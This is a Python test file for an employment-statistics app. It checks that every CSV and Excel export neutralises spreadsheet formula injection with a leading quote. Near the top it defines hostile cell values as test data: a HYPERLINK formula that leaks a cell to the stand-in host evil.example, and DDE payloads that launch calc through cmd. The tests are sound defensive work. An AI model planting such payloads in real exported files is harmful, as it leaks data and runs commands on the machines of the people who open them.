"""Formula injection (#18): no CSV or Excel export carries a cell that Excel/WPS would run as a formula.

A station, an area or a user called ``=HYPERLINK("http://…"&B2,…)`` is stored as written (the import warns);
every export neutralises it with a leading single quote, through one function, ``bureau.spreadsheet.safe_cells``.
Checked three ways: the function itself; every page's downloads and the pack's workbook built from a demo city
whose names are hostile (Excel files opened with openpyxl, CSVs read back); and a static scan that every code
path making CSV or Excel bytes calls the function.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import sqlite3
from datetime import datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select, update
from streamlit.testing.v1 import AppTest

from jobs.cli import main
from jobs.spreadsheet import csv_bytes, safe_cells, xlsx_bytes
from store import schema as s
from store.db import make_engine
from tests.conftest import ROOT
from ui import common

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Jiang\'an")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
HOSTILE = (HYPERLINK, AT_SUM, MINUS, TAB)
NUMBER = re.compile(r"[-+]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][-+]?\d+)?%?")


def runs_as_formula(cell: object) -> bool:
    """What Excel/WPS would execute: a text starting with = + - @ tab or CR that is not a plain number."""
    return (
        isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)
    )


# --- the function ----------------------------------------------------------------------------------------------


def test_safe_cells_quotes_text_that_would_run_and_leaves_numbers() -> None:
    frame = pd.DataFrame(
        {
            "name": [HYPERLINK, AT_SUM, MINUS, TAB, "\r=1", "+1", "-5", "-1.5e-3", "plain", None, "武汉"],
            "value": [-1.5, -2, 0, 1, 2, 3, np.nan, 4, 5, 6, 7],
            "count": pd.array([-1, 2, 3, 4, 5, 6, 7, 8, 9, 10, None], dtype="Int64"),
        }
    )
    frame.columns = ["name", HYPERLINK, "count"]
    out = safe_cells(frame)
    assert out.iloc[:5, 0].tolist() == ["'" + v for v in (HYPERLINK, AT_SUM, MINUS, TAB, "\r=1")]
    assert out.iloc[5:, 0].tolist()[:4] == [
        "+1",
        "-5",
        "-1.5e-3",
        "plain",
    ]  # signed numbers as text: harmless
    assert out.iloc[9, 0] is None and out.iloc[10, 0] == "武汉"
    assert list(out.columns) == ["name", "'" + HYPERLINK, "count"]  # a pivot's headers are area names
    pd.testing.assert_series_equal(
        out.iloc[:, 1], frame.iloc[:, 1], check_names=False
    )  # numbers stay numbers
    assert out["count"].dtype == "Int64" and out["count"].iloc[0] == -1
    assert safe_cells(out).equals(out)  # applying it twice changes nothing
    assert frame.iloc[0, 0] == HYPERLINK  # the input is not modified
    labels = safe_cells(pd.DataFrame({"area": pd.Categorical([HYPERLINK, "ok"]), "n": [1, 2]}))
    assert labels["area"].tolist() == ["'" + HYPERLINK, "ok"]

    frame.iloc[8, 0] = "text\r=1+1"  # a CR inside a cell: quoted, or Excel starts a row with =1+1 there
    text = csv_bytes(frame).decode("utf-8-sig")
    assert '"text\r=1+1"' in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert not [c for r in rows for c in r if runs_as_formula(c)]
    assert rows[1][0] == "'" + HYPERLINK and rows[1][1] == "-1.5"

    ws = load_workbook(io.BytesIO(xlsx_bytes({"t": frame}))).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or runs_as_formula(c.value)]
    assert ws["A2"].value == "'" + HYPERLINK and ws["B2"].value == -1.5 and ws["B2"].data_type == "n"


# --- every export of a demo city with hostile names -------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_url(demo_url: str, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A copy of the demo city where a district, its stations, a user and a replaced figure have hostile names."""
    target = tmp_path_factory.mktemp("hostile") / "demo.sqlite"
    src, dst = sqlite3.connect(demo_url.split("///", 1)[1]), sqlite3.connect(target)
    src.backup(dst)
    src.close()
    dst.close()
    url = f"sqlite:///{target}"
    engine = make_engine(url)
    with engine.begin() as conn:
        for code in ("420102", "420103"):  # two districts, so the ranking (and the pack's) shows one of them
            conn.execute(
                update(s.area).where(s.area.c.area_code == code).values(name_en=HYPERLINK, name_zh=AT_SUM)
            )
        conn.execute(update(s.service_point).values(name_en=MINUS, name_zh=MINUS))
        load = conn.execute(select(s.data_load.c.load_id).limit(1)).scalar_one()
        conn.execute(
            insert(s.data_change).values(
                load_id=load,
                table_name="reported_monthly",
                row_key='{"area_code": "420102"}',
                previous_json='{"value": 1}',
                new_json='{"value": 2}',
                changed_at=datetime(2026, 11, 1),
                changed_by=TAB,
            )
        )
    engine.dispose()
    return url


def _payload(data: object) -> bytes | str:
    raw = data() if callable(data) else data
    return raw if isinstance(raw, bytes | str) else str(raw)


@pytest.fixture()
def downloads(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, bytes | str]]:
    """Every download button a page offers (file name, payload built as if clicked)."""
    import streamlit
    from streamlit.delta_generator import DeltaGenerator

    got: list[tuple[str, bytes | str]] = []
    real = DeltaGenerator.download_button

    def spy(self: DeltaGenerator, label: str, data: object = None, *args: object, **kwargs: object) -> object:
        got.append((str(kwargs.get("file_name") or label), _payload(data)))
        return real(self, label, data, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(DeltaGenerator, "download_button", spy)
    monkeypatch.setattr(streamlit, "download_button", lambda *a, **k: spy(streamlit._main, *a, **k))
    return got


def _csv_cells(raw: bytes | str) -> list[str]:
    text = raw.decode("utf-8-sig") if isinstance(raw, bytes) else raw
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _xlsx_cells(raw: bytes) -> list[tuple[str, object, str]]:
    """(sheet!cell, value, data type) of every cell, the workbook opened in full (not read-only) mode."""
    book = load_workbook(io.BytesIO(raw))
    return [(f"{ws.title}!{c.coordinate}", c.value, c.data_type) for ws in book.worksheets
            for row in ws.iter_rows() for c in row]  # fmt: skip


def check_export(name: str, raw: bytes | str) -> list[str]:
    """Asserts that the file holds no live formula and no text that would run; returns its text cells."""
    if name.endswith(".xlsx"):
        assert isinstance(raw, bytes) and raw[:2] == b"PK", name
        cells = _xlsx_cells(raw)
        assert [where for where, _, kind in cells if kind == "f"] == [], name
        assert [(w, v) for w, v, _ in cells if runs_as_formula(v)] == [], name
        return [v for _, v, _ in cells if isinstance(v, str)]
    assert name.endswith(".csv"), name
    texts = _csv_cells(raw)
    assert [c for c in texts if runs_as_formula(c)] == [], name
    return texts


def neutralised(texts: list[str]) -> set[str]:
    """The hostile names a file shows (``check_export`` has made sure none of its cells would run)."""
    return {h for h in HOSTILE if any(h in t for t in texts)}


# Pages whose downloads must show a hostile name (neutralised); every page's downloads must be safe.
EXPECTED = {"targets": 1, "funds": 1, "service_circle": 1, "explore": 2, "data": 1, "forecasts": 0, "pack": 1}


def test_every_page_download_neutralises_hostile_names(
    monkeypatch: pytest.MonkeyPatch,
    hostile_url: str,
    tmp_path: Path,
    downloads: list[tuple[str, bytes | str]],
) -> None:
    assert main(["pack", "--quarter", "2026Q3", "--lang", "en", "--out", str(tmp_path / "p.xlsx"),
                 "--url", hostile_url, "--user", HYPERLINK[:60]]) == 0  # fmt: skip
    monkeypatch.setattr(common, "_leave_legacy_multipage_mode", lambda: None, raising=False)
    monkeypatch.setenv("EMPLOYMENT_DB_URL", hostile_url)
    monkeypatch.setenv("EMPLOYMENT_LANG", "en")
    monkeypatch.setenv("EMPLOYMENT_OPEN_ROLE", "admin")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.run()
    for page, minimum in EXPECTED.items():
        if page == "pack":
            at.query_params["quarter"] = "2026Q3"
        del downloads[:]
        at.switch_page(f"pages/{page}.py").run()
        assert not at.exception, (page, [e.value for e in at.exception])
        sheets = [(n, raw) for n, raw in downloads if n.endswith((".csv", ".xlsx"))]
        assert len(sheets) >= minimum, (page, [n for n, _ in downloads])
        shown = [neutralised(check_export(n, raw)) for n, raw in sheets]
        if minimum:
            assert any(shown), (page, [n for n, _ in sheets])
        if page in ("explore", "pack"):  # the CSV and the workbook of the same view both show it
            assert all(shown), (page, [n for n, _ in sheets], shown)
    # the CLI's workbook of the same pack, its about sheet naming the hostile user
    texts = check_export("p.xlsx", (tmp_path / "p.xlsx").read_bytes())
    assert HYPERLINK in neutralised(texts) and AT_SUM not in texts


# --- every path that makes CSV or Excel bytes calls safe_cells ---------------------------------------------------

WRITERS = {"to_csv", "to_excel", "ExcelWriter", "Workbook", "csv.writer", "csv.DictWriter"}
# Files that write spreadsheets without anything from the database: the import templates (headers, help text).
NO_DATA = {"jobs/importing/templates.py": "empty import templates: column names and help text from the code"}
SHARED = "jobs/spreadsheet.py"


def _sources() -> list[Path]:
    found = [ROOT / "app.py"]
    for folder in sorted(p for p in ROOT.iterdir() if p.is_dir() and (p / "__init__.py").exists()):
        if folder.name not in ("tests", "bench"):
            found += sorted(folder.rglob("*.py"))
    return found


def _called(node: ast.AST) -> set[str]:
    names = set()
    for sub in ast.walk(node):
        if isinstance(sub, ast.Call):
            f = sub.func
            if isinstance(f, ast.Attribute):
                names.add(f.attr)
                if isinstance(f.value, ast.Name):
                    names.add(f"{f.value.id}.{f.attr}")  # csv.writer, not any function called writer
            elif isinstance(f, ast.Name):
                names.add(f.id)
    return names


def test_every_export_path_uses_the_shared_function() -> None:
    """A function that builds CSV or Excel bytes (``to_csv``, ``to_excel``, ``ExcelWriter``, openpyxl's
    ``Workbook``, ``csv.writer``) must also call ``safe_cells``; the shared builders are the only exception."""
    offenders, writers_seen = [], []
    for path in _sources():
        rel = path.relative_to(ROOT).as_posix()
        if rel == SHARED or rel in NO_DATA:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        funcs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)]
        for fn in funcs:
            called = _called(fn)
            if called & WRITERS:
                writers_seen.append(f"{rel}:{fn.name}")
                if "safe_cells" not in called:
                    offenders.append(f"{rel}:{fn.lineno} {fn.name} writes {sorted(called & WRITERS)}")
    assert offenders == [], offenders
    assert "jobs/pack/excel.py:render" in writers_seen  # the scan is not vacuous
    # Every CSV download goes through ui.common.download_csv, which builds its bytes with csv_bytes;
    # the Explore workbook is xlsx_bytes (built in ui/periods.py, which the page calls).
    common_src = (ROOT / "ui" / "common.py").read_text(encoding="utf-8")
    explore_src = (ROOT / "ui" / "periods.py").read_text(encoding="utf-8")
    assert "csv_bytes(df)" in common_src and "xlsx_bytes(" in explore_src
    for path in _sources():
        text = path.read_text(encoding="utf-8")
        rel = path.relative_to(ROOT).as_posix()
        if rel not in (SHARED, *NO_DATA):
            assert ".to_csv(" not in text and ".to_excel(" not in text, rel
